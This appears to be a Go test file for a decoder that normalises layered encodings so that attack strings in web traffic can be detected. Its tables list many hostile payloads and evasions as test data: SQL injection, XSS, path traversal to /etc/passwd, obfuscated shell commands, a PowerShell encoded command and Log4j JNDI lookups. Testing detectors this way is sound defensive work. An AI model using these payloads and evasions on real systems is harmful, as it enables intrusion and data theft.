package decode

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"
)

// table feeds the test and the fuzz target. A want of "" means: its own canonical form.
var table = []struct{ in, want string }{
	// Percent
	{"/a%20b", "/a b"},
	{"..%2f..%2Fetc/passwd", "../../etc/passwd"},
	{"%252e%252e%252fetc", "../etc"},
	{"%25252525252e", "."},
	{"%%32%65", "."},
	{"%u002e%u002E%U2215", "../"},
	{"%ud83d%ude00", "😀"},
	{"id=1%27%20OR%20%271%27=%271", "id=1' or '1'='1"},
	{"%3Cscript%3Ealert(1)%3C/script%3E", "<script>alert(1)</script>"},
	{"/x.php%00.jpg", "/x.php.jpg"},
	{"a%0d%0aSet-Cookie:%20x", "a set-cookie: x"},
	{"caf%C3%A9", "café"},
	{"caf%E9", "caf\xe9"},
	{"%25u003c", "<"},
	// What is no encoding
	{"100%", ""}, {"a%zz", ""}, {"%", ""}, {"%2", ""}, {"50% off", ""}, {"%u12", ""}, {"C++", ""}, {"c++ and c", ""}, {"A+B", "a b"},
	{"Google+", ""}, {"1+1", ""}, {"+49 30 1234", ""}, {"2026-11-23T03:10:11+01:00", ""}, {"q=C++&x=1", ""}, {"a + b", ""},
	{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", ""},
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36", ""},
	{"/p?a=1&b=2&lt=5&copy=1&region=eu", ""}, {"AT&T", ""}, {"a & b", ""}, {"/wp-content/themes/TwentyTwenty/style.css", ""}, {"it's don't I'd say", ""},
	{`C:\Users\bin\sh.txt`, ""}, {`..\..\boot.ini`, ""}, {`C:\windows\temp\new.log`, ""}, {`EXAMPLE\id`, ""}, {`\\files\share\a.doc`, ""},
	{`{"name":"Ada","empty":"","n":[1,2]}`, ""}, {"$100", ""}, {"${name}", ""}, {"price: $5.00", ""}, {"text/*, image/png", ""}, {"a * b ** c", ""},
	{"550e8400-e29b-41d4-a716-446655440000", ""}, {"d41d8cd98f00b204e9800998ecf8427e", ""}, {"D41D8CD98F00B204E9800998ECF8427E", ""},
	{"sid=s%3A", "sid=s:"}, {"JSESSIONID=8F3B2C1D9E0A7B6C5D4E3F2A1B0C9D8E", ""}, {"AKIAIOSFODNN7EXAMPLE", ""}, {"isNotificationCenterEnabled", ""},
	{"Привет, мир", ""}, {"日本語のテキスト。", ""}, {"مرحبا بالعالم", ""}, {"naïve Zürich", ""}, {"می\u200cخواهم", ""}, {"👩‍💻", ""}, {"", ""}, {"x", ""},
	{"select from a list", ""}, {"Insert vs Crop.png", ""}, {"# title", ""}, {"a -- b", ""}, {"--help", ""},
	{"%D0%9F%D1%80%D0%B8%D0%B2%D0%B5%D1%82+%D0%BC%D0%B8%D1%80", "Привет мир"},
	// Plus
	{"union+select", "union select"}, {"union++select+1", "union select 1"}, {"id=1'+--+", "id=1' -- "}, {"id=1'+--+&x", "id=1' -- &x"},
	{"union%20+select", "union select"}, {"q=+or+1=1", "q= or 1=1"},
	// \x, \u and JSON
	{`\x3Cscript\x3E`, "<script>"}, {`\x5Cu003cb`, "<b"}, {`\u003cscript\u003e`, "<script>"}, {`\\\\u003cimg`, "<img"}, {`\u{3c}svg`, "<svg"}, {`\x{3C}svg`, "<svg"},
	{`\U0000003csvg`, "<svg"}, {`\u006a\u006Edi`, "jndi"}, {`\ud83d\ude00`, "😀"}, {`\ud83d`, ""}, {`{\"a\":\"b\"}`, `{"a":"b"}`}, {`<\/script>`, "</script>"},
	{`union\nselect`, "union select"}, {`a\r\nb`, "a b"}, {`\xC3\xA9t\xC3\xA9`, "été"}, {`1\' or 1=1`, "1' or 1=1"}, {`\x00a`, "a"}, {`\xzz`, ""}, {`\u12`, ""},
	{`..\\..\\windows`, `..\..\windows`}, {`..%5c..%5cboot.ini`, `..\..\boot.ini`},
	// HTML
	{"&lt;script&gt;", "<script>"}, {"&LT;b&GT;", "<b>"}, {"&#60;svg&#x3E;", "<svg>"}, {"&#0000060svg", "<svg"}, {"&#x3Cimg", "<img"}, {"&amp;amp;lt;b", "<b"},
	{"jav&Tab;ascript&colon;alert&lpar;1&rpar;", "jav ascript:alert(1)"}, {"%26lt%3bscript", "<script"}, {"&quot;/onload", `"/onload`}, {"&lt/x", "</x"}, {"&#xffffffff;", ""}, {"&#;", ""},
	// UTF-7
	{"+ADw-script+AD4-", "<script>"}, {"+ADw-script+AD4-alert(1)", "<script>alert(1)"}, {"+ADwAcwBjAHIAaQBwAHQAPg-", "<script>"}, {"+ADwscript", ""}, {"a+ACE", "a ace"}, {"x+AMD+cpu", "x amd cpu"},
	// Overlong, compatibility forms
	{"%c0%ae%c0%ae%c0%afetc", "../etc"}, {"%e0%80%ae%e0%80%af", "./"}, {"%f0%80%80%ae", "."}, {"..%c0%2fx", "../x"}, {"..%c1%9cx", `..\x`}, {"..%c1%1cx", `..\x`},
	{"＜ｓｃｒｉｐｔ＞", "<script>"}, {"%EF%BC%9Cscript%EF%BC%9E", "<script>"}, {"ｕｎｉｏｎ　ｓｅｌｅｃｔ", "union select"}, {"𝐮𝐧𝐢𝐨𝐧", "union"}, {"ⓢelect", "select"}, {"ſcript", "script"}, {"\u212Aill", "kill"},
	{"x\u2019 or 1=1", "x' or 1=1"}, {"sel\u200bect", "select"}, {"..\u2215..\u2215etc", "../../etc"}, {"‥/‥/etc", "../../etc"}, {"a\u00a0b", "a b"}, {"ﬁle", "file"}, {"127。0。0。1", "127.0.0.1"},
	// SQL comments
	{"union/**/select", "union select"}, {"un/*x*/ion", "un ion"}, {"1/*!50000union*/+select", "1 union select"}, {"/*!select*/1", " select 1"}, {"/*M!100100 union*/ x", " union x"},
	{"union%2f%2a%2a%2fselect", "union select"}, {"union--%0aselect", "union select"}, {"union%23foo%0Aselect", "union select"}, {"union--+x%0aselect", "union-- x select"},
	{"a/*<svg/onload=alert(1)>*/b", "a b <svg/onload=alert(1)>"}, {"a /* b", ""}, {"/*/*x*/y", " y"},
	// Base64: the token stays, its text follows
	{"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "phnjcmlwdd5hbgvydcgxktwvc2nyaxb0pg== <script>alert(1)</script>"},
	{"c=Y2F0IC9ldGMvcGFzc3dk&x=1", "c=y2f0ic9ldgmvcgfzc3dk&x=1 cat /etc/passwd"},
	{"/a/Y2F0IC9ldGMvcGFzc3dk%3D", "/a/y2f0ic9ldgmvcgfzc3dk= cat /etc/passwd"},
	{"x=" + b64(b64("cat /etc/passwd")), "x=" + strings.ToLower(b64(b64("cat /etc/passwd"))+" "+b64("cat /etc/passwd")) + " cat /etc/passwd"},
	{"-enc " + b64(wide("IEX whoami")), "-enc " + strings.ToLower(b64(wide("IEX whoami"))) + " iex whoami"},
	{"v=" + b64("%3Cscript%3E1%3C/script%3E"), "v=" + strings.ToLower(b64("%3Cscript%3E1%3C/script%3E")) + " <script>1</script>"},
	{"a=" + b64("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x10"), ""},
	// Shell and Log4j
	{"c''at /e\"\"tc/pa``sswd", "cat /etc/passwd"}, {`c\at /etc/pas\swd`, "cat /etc/passwd"}, {`c'a't x`, "cat x"}, {`;w"g"et`, ";wget"}, {`who^ami`, "whoami"}, {`;\wget`, ";wget"},
	{"cat$IFS/etc/passwd", "cat /etc/passwd"}, {"cat${IFS}/etc", "cat /etc"}, {"cat$IFS$9/etc", "cat /etc"}, {"c$@at /etc", "cat /etc"}, {"${PATH:0:1}etc", "/etc"}, {"'id'", ""}, {`"cat"`, ""},
	{"${jndi:ldap://a}", ""}, {"${${lower:j}ndi:${lower:l}${lower:d}ap://x}", "${jndi:ldap://x}"}, {"${${::-j}${::-n}di:rmi://x}", "${jndi:rmi://x}"}, {"${${env:NaN:-j}ndi:x}", "${jndi:x}"},
	{"${${upper:${lower:j}}ndi:x}", "${jndi:x}"}, {"%24%7B%24%7Blower%3Aj%7Dndi%3Ax%7D", "${jndi:x}"}, {"${${date:'j'}ndi:x}", "${jndi:x}"},
	// NUL, white space
	{`0123456789\N+00`, "0123456789 +00"}, {"a\x00b", "ab"}, {"a \t\n b", "a b"}, {"a  b", "a b"},
}

func b64(s string) string { return base64.RawStdEncoding.EncodeToString([]byte(s)) }

func wide(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

func TestCanonical(t *testing.T) {
	for _, c := range table {
		got, changed := Canonical([]byte("<"), []byte(c.in))
		switch {
		case c.want == "" && (changed || string(got) != "<"):
			t.Errorf("Canonical(%q) = %q, want no change", c.in, got[1:])
		case c.want != "" && (!changed || string(got) != "<"+c.want):
			t.Errorf("Canonical(%q) = %q, %v\n\twant %q", c.in, got[1:], changed, c.want)
		}
	}
}

// TestNeeded holds the quick pass to its purpose: ordinary traffic never reaches the slow one.
func TestNeeded(t *testing.T) {
	for _, s := range []string{
		"/", "/index.html", "/assets/app.3f9c2b71.js", "/p?a=1&b=2&utm_source=news", "/wp-content/plugins/elementor/assets/css/frontend.min.css",
		"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "https://www.example.com/search?q=shoes&page=2",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "JSESSIONID=8F3B2C1D9E0A7B6C5D4E3F2A1B0C9D8E",
	} {
		if Needed([]byte(s)) {
			t.Errorf("Needed(%q)", s)
		}
	}
}

// payloads x encodings: whatever order two encodings come in, the payload is found.
func TestNested(t *testing.T) {
	bytewise := func(format string) func(string) string {
		return func(s string) string {
			var b strings.Builder
			for _, c := range []byte(s) {
				fmt.Fprintf(&b, format, c)
			}
			return b.String()
		}
	}
	runewise := func(format string) func(string) string {
		return func(s string) string {
			var b strings.Builder
			for _, c := range s {
				fmt.Fprintf(&b, format, c)
			}
			return b.String()
		}
	}
	encodings := map[string]func(string) string{
		"percent": bytewise("%%%02X"), "percent u": runewise("%%u%04X"), "x": bytewise(`\x%02X`), "u": runewise(`\u%04x`), "html": runewise("&#%d;"), "html x": runewise("&#x%x"),
		"query": url.QueryEscape, "upper": strings.ToUpper, "base64": func(s string) string { return b64("payload::::" + s + " ") },
		"full-width": func(s string) string {
			return strings.Map(func(r rune) rune {
				if r > ' ' && r < 0x7f {
					return r + 0xfee0
				}
				return r
			}, s)
		},
		"NUL": func(s string) string { return strings.Join(strings.Split(s, ""), "\x00") },
	}
	for _, payload := range []string{"<script>alert(1)</script>", "' or 1=1 -- x", "1 union select user,2", "../../../etc/passwd", ";cat /etc/passwd", "${jndi:ldap://192.0.2.1/a}", "{{7*7}}", "php://filter/x=y"} {
		for n1, f1 := range encodings {
			for n2, f2 := range encodings {
				if n1 == "base64" && (n2 == "upper" || n2 == "full-width") || n1 == "full-width" && n2 == "base64" {
					continue // no decoder undoes the first two; the '+' of the third may be a form's space
				}
				in := f2(f1(payload))
				got, _ := Canonical(nil, []byte(in))
				if !strings.Contains(string(got), payload) && !(n1 == "upper" && strings.EqualFold(in, payload)) {
					t.Errorf("%s in %s: Canonical(%q) = %q lacks %q", n1, n2, in, got, payload)
				}
			}
		}
	}
}

func TestCanonicalAllocatesNothing(t *testing.T) {
	dst := make([]byte, 0, 4096)
	if n := testing.AllocsPerRun(10, func() {
		for _, c := range table {
			Canonical(dst, []byte(c.in))
		}
	}); n > float64(len(table)) { // the conversions of long inputs above
		t.Errorf("%v allocations", n)
	}
	in := []byte(`%3Cscript%3E +ADw- \u003c &lt; un/**/ion PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== ${lower:j} c''at "c\at" ＜`)
	if n := testing.AllocsPerRun(10, func() { Canonical(dst, in) }); n != 0 {
		t.Errorf("%v allocations, want 0", n)
	}
}

func TestHugeInputsStayLinear(t *testing.T) {
	const size = 1 << 20
	for _, piece := range []string{"%25", "/*", "/**/", "${", "}", "+A", "++", `\`, `\n`, `\\n`, "&#", "&amp;", "AbCd", "PHNjcmlwdD4", "''", "c'", "\xc0", "%", "#\n", "--\n", "${a:-", "$IFS", "/*!"} {
		in := []byte(strings.Repeat(piece, size/len(piece)))
		out, _ := Canonical(nil, in)
		if len(out) > maxGrowth*len(in) {
			t.Errorf("%q repeated: %d bytes of %d", piece, len(out), len(in))
		}
	}
}

func check(t *testing.T, in []byte) {
	keep := bytes.Clone(in)
	out, changed, settled := canonical(nil, in)
	if !bytes.Equal(in, keep) {
		t.Fatalf("Canonical(%q) wrote to its input", keep)
	}
	if len(out) > maxGrowth*len(in) {
		t.Errorf("%q grew from %d to %d", in, len(in), len(out))
	}
	if !changed {
		if len(out) != 0 {
			t.Errorf("%q: not changed, but %q", in, out)
		}
		return
	}
	if lower(keep); bytes.Equal(keep, out) {
		t.Errorf("%q: changed to itself", in)
	}
	if !settled {
		return
	}
	if again, changed := Canonical(nil, out); changed {
		t.Errorf("not idempotent: %q -> %q -> %q", in, out, again)
	}
}

func TestInvariants(t *testing.T) {
	for _, a := range table {
		check(t, []byte(a.in))
		for _, b := range table {
			check(t, []byte(a.in+b.in))
		}
	}
}

func FuzzCanonical(f *testing.F) {
	for _, c := range table {
		f.Add([]byte(c.in))
	}
	f.Fuzz(func(t *testing.T, in []byte) {
		check(t, in)
		if len(in) < 1<<12 && !Needed(in) {
			if _, changed := undo(bytes.Clone(in), 0); changed {
				t.Errorf("Needed(%q) is false, but undo changes it", in)
			}
		}
	})
}

// TestScan compares the words of scan with the table, byte by byte and place by place.
func TestScan(t *testing.T) {
	for c := range 256 {
		for at := range 24 {
			in := []byte("aaaaaaa-bbbbbbb-ccccccc-")
			in[at] = byte(c)
			if got, want := scan(in, false), special(in); got != want {
				t.Errorf("scan(%q) = %v, want %v", in, got, want)
			}
			if at > 0 {
				in[at-1] = ' '
				if got, want := scan(in, false), special(in); got != want {
					t.Errorf("scan(%q) = %v, want %v", in, got, want)
				}
			}
		}
	}
	token := b64("cat /etc/passwd")
	for pad := range 20 {
		if in := strings.Repeat("/", pad) + token + "/x"; !Needed([]byte(in)) {
			t.Errorf("Needed(%q) is false", in)
		}
	}
}

func TestFold(t *testing.T) {
	for r := rune(0x80); r <= 0x10ffff; r++ {
		if r == 0xd800 {
			r = 0xe000 // the halves of characters between are none
		}
		for _, prev := range []byte{0, 'a'} {
			text, ok := fold(r, prev)
			if len(text) > utf8.RuneLen(r) || !ok && text != "" || strings.IndexFunc(text, func(r rune) bool { return r < ' ' || r > '~' }) >= 0 {
				t.Errorf("fold(%U) = %q, %v", r, text, ok)
			}
		}
	}
	for in, want := range map[rune]string{'﹤': "<", '﹥': ">", '﹠': "&", '﹪': "%", '﹨': `\`, '﹫': "@", '．': ".", '／': "/", '𝟘': "0", '𝗓': "z", 'Ⓐ': "A"} {
		if got, _ := fold(in, 0); got != want {
			t.Errorf("fold(%q) = %q, want %q", in, got, want)
		}
	}
}
